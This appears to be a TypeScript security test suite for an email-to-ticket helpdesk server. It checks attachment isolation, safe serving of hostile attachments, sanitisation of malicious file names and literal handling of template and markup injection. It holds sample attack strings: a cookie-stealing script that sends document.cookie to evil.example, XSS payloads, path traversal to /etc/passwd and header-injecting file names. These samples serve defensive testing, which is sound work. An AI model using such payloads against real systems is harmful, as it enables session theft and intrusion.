import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { after, test } from 'node:test'
import { lines, rawLines } from '../../server/routes.ts'
import { call, done, emailOf, page, type Who } from '../../server/tickets/testing/house.ts'
import { openPost } from './testing/correspondence.ts'
import { emlOf, encoded, named, png } from './testing/parts.ts'

const { house, post, stop } = await openPost({ now: '2026-11-16T10:00:00+03:00', lines, rawLines })
after(stop)

const LATER = 11 * 60_000

/** What the server says to somebody who asks for a file, and its bytes. */
async function fetched(who: Who, path: string): Promise<{ headers: Headers; status: number; bytes: Buffer }> {
  const reply = await fetch(`${house.server.url}/api/v1${path}`, { headers: { cookie: house.as[who].cookie() ?? '' } })
  return { headers: reply.headers, status: reply.status, bytes: Buffer.from(await reply.arrayBuffer()) }
}

const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')

test('B4 fifty times two letters with an image.png of the same name and id at once: each request has its own bytes', async () => {
  const pairs = 50
  let compared = 0
  for (let at = 0; at < pairs; at += 10) {
    const some = Array.from({ length: 10 }, (_, index) => at + index)
    const sent = some.flatMap((nth) =>
      (['anna', 'stranger'] as const).map((who) => {
        const bytes = png(`${who} ${nth} ${'x'.repeat(nth * 100)}`)
        const raw = emlOf({
          from: emailOf(who),
          subject: `Снимок экрана ${nth}`,
          as: 'related',
          html: `<p>Снимок ${nth}:</p><img src="cid:image001@local">`,
          parts: [
            {
              head: [
                'Content-Type: image/png; name=image.png',
                'Content-ID: <image001@local>',
                'Content-Disposition: inline; filename=image.png',
              ],
              bytes,
            },
          ],
        })
        return { who, bytes, raw }
      }),
    )
    const stored = []
    for (const each of sent) stored.push({ ...each, id: await house.stored(each.raw) })
    for (const { who, bytes, id } of stored) {
      const letter = await house.fate(id)
      assert.equal(letter.fate, 'registered')
      const card = await page(house, who, Number(letter.ticket))
      const files = card.timeline[0]?.files ?? []
      assert.deepEqual(
        files.map(({ name }) => name),
        ['image.png'],
      )
      const path = `/files/${files[0]?.id}`
      assert.equal(sha256((await fetched(who, path)).bytes), sha256(bytes))
      const shown = (await fetched(who, `/letters/${id}/page`)).bytes.toString()
      assert.deepEqual(
        [...shown.matchAll(/<img [^>]*src="([^"]*)"/g)].map(([, src]) => src),
        [`/api/v1${path}?inline=1`],
      )
      assert.equal((await fetched(who === 'anna' ? 'stranger' : 'anna', path)).status, 404)
      compared += 1
    }
    house.server.clock.move(LATER)
  }
  assert.equal(compared, 2 * pairs)
})

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`

test('C2 attachments that are pages are saved, never shown, and a .png that is none is no picture', async () => {
  const parts = [
    named('схема.svg', 'image/svg+xml', svg),
    named('страница.html', 'text/html; charset=utf-8', `<html>${script}</html>`),
    named('страница.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
    named('данные.xml', 'text/xml', `<?xml-stylesheet href="data:text/xsl,x"?><a>${script}</a>`),
    named('акт.pdf', 'application/pdf', '%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    named('снимок.png', 'image/png', svg),
    named('без-расширения', 'text/html', script),
    named('utf7.txt', 'text/html; charset=utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    named('сборка.swf', 'application/x-shockwave-flash', 'FWS'),
    named('настоящий.png', 'text/html', png('настоящий')),
  ]
  const letter = await house.arrives(emlOf({ from: emailOf('anna'), text: 'Файлы во вложении', parts }))
  const number = Number(letter.ticket)
  const files = (await page(house, 'anna', number)).timeline[0]?.files ?? []
  assert.equal(files.length, parts.length)
  for (const who of ['anna', 'specialist'] as const) {
    for (const [index, { id, name }] of files.entries()) {
      for (const asked of ['', '?inline=1']) {
        const { headers, bytes, status } = await fetched(who, `/files/${id}${asked}`)
        assert.equal(status, 200)
        assert.ok(Buffer.from(parts[index]?.bytes ?? '').equals(bytes), 'the sender’s bytes')
        assert.equal(headers.get('x-content-type-options'), 'nosniff')
        const isPicture = name === 'настоящий.png' && asked !== ''
        assert.equal(headers.get('content-type'), isPicture ? 'image/png' : 'application/octet-stream', name + asked)
        assert.match(headers.get('content-disposition') ?? '', isPicture ? /^inline;/ : /^attachment;/, name + asked)
        assert.match(headers.get('content-security-policy') ?? '', /default-src 'none'|sandbox/)
      }
    }
  }
})

test('C3 evil names of files are read as they are, and come as one plain name', async () => {
  const evil = [
    '<img src=x onerror=alert(1)>.png',
    'отчёт\u202Egnp.exe',
    'a\r\nSet-Cookie: evil=1.txt',
    'nul\0byte.txt',
    `${'д'.repeat(4000)}.txt`,
    '../../../etc/passwd',
    String.raw`C:\Windows\system32\calc.exe`,
    '\u200b.htaccess',
    'CON',
    'lpt1.txt',
    '...',
    '"; filename="evil.exe',
    "x'; filename*=UTF-8''evil.exe",
    '',
  ]
  const raw = emlOf({
    from: emailOf('anna'),
    text: 'Имена файлов',
    parts: evil.map((name, index) => named(name, 'application/octet-stream', `bytes ${index}`)),
  })
  const letter = await house.arrives(raw)
  const files = (await page(house, 'anna', Number(letter.ticket))).timeline[0]?.files ?? []
  assert.equal(files.length, evil.length)
  for (const [index, { id, name }] of files.entries()) {
    assert.doesNotMatch(name, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}<>:"|?*/\\]/u, name)
    assert.doesNotMatch(name, /^\.|^(?:con|nul|lpt1)(?:\.|$)/i)
    assert.ok(name !== '' && Buffer.byteLength(name) <= 255)
    const { headers, bytes } = await fetched('anna', `/files/${id}`)
    assert.equal(bytes.toString(), `bytes ${index}`)
    const disposition = headers.get('content-disposition') ?? ''
    const [, plain = '', exact = ''] =
      /^attachment; filename="([^"\\]*)"; filename\*=UTF-8''([\w.~!#$&+^`|%-]*)$/.exec(disposition) ?? []
    assert.equal(decodeURIComponent(exact), name, disposition)
    assert.notEqual(plain, '')
    assert.equal(headers.get('set-cookie'), null)
  }
})

test('C8 C6 what looks like a template or markup in a letter stands literally in ours', async () => {
  const evil =
    '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} %s%n%x {customer.password} {0} $& <a href="https://evil.example">жми</a>'
  const domain = 'shablon.example'
  await house.server.house.database.act((tx) =>
    tx
      .insertInto('customer_domain')
      .values({ domain, customer_id: house.customerA, created_at: house.server.clock.now })
      .execute(),
  )
  const from = `${encoded('{{7*7}} ${7*7} %s')} <drafted@${domain}>`
  const first = await house.arrives(emlOf({ from, subject: encoded(evil), text: evil }))
  assert.equal(first.fate, 'registered')
  const number = Number(first.ticket)
  await done(house, 'dispatcher', `${number}/watchers`, { personId: house.ids.boris })
  await done(house, 'specialist', `${number}/acceptance`)
  await house.arrives(emlOf({ from, subject: encoded(`Re: № ${number}`), text: `Дополнение: ${evil}` }))
  const told = await post.arrives(emailOf('specialist'), ({ text }) => text.includes('Дополнение'))
  assert.ok(told.subject.includes('{{7*7}} ${7*7} <%= 7*7 %> #{7*7} %s%n%x {customer.password}'), told.subject)
  const words = told.text.replaceAll(/[\s>]+/g, ' ')
  assert.ok(words.includes('{{7*7}} ${7*7} %s'), 'his name')
  assert.ok(words.includes('{customer.password} {0} $& <a href="https://evil.example" жми</a '), words)
  await done(house, 'specialist', `${number}/questions`, { text: `Вопрос: ${evil}` })
  const asked = await post.arrives(emailOf('boris'), ({ text }) => text.includes('Вопрос'))
  assert.ok(asked.text.replaceAll(/[\s>]+/g, ' ').includes('Вопрос: {{7*7}} ${7*7} <%= 7*7 % #{7*7} %s%n%x'))
  const ours = (await post.left()).filter(({ letter }) => letter.subject.includes(`№ ${number}`))
  assert.ok(ours.length >= 3)
  for (const { letter } of ours) {
    assert.doesNotMatch(`${letter.subject}\n${letter.text}`, /\b49\b/)
    assert.doesNotMatch(letter.html ?? '', /<a [^>]*evil\.example/)
  }
})

test('C4 an author whose name is markup is a name in every reply, and his letter’s page has none of it', async () => {
  const name = '<img src=x onerror=alert(1)> "><script>alert(1)</script>'
  const from = `${encoded(name)} <markup@elsewhere.test>`
  const html = `<p>Письмо</p>${script}<img src="https://evil.example/a.png"><a href="javascript:alert(1)">жми</a>`
  const letter = await house.arrives(emlOf({ from, subject: name, html }))
  assert.equal(letter.reason, 'unknown_sender')
  const { body } = await call(house, { who: 'dispatcher', path: `/letters/${letter.id}` })
  assert.deepEqual(body['from'], { name, address: 'markup@elsewhere.test' })
  assert.ok(typeof body['subject'] === 'string' && body['subject'].includes('<script>'))
  const shown = await fetched('dispatcher', `/letters/${letter.id}/page`)
  assert.equal(shown.status, 200)
  assert.doesNotMatch(shown.bytes.toString(), /<script|evil\.example|javascript:|onerror/)
  assert.match(shown.headers.get('content-security-policy') ?? '', /default-src 'none'.*sandbox/)
  assert.equal(shown.headers.get('x-content-type-options'), 'nosniff')
  assert.equal((await fetched('anna', `/letters/${letter.id}/page`)).status, 404)
})
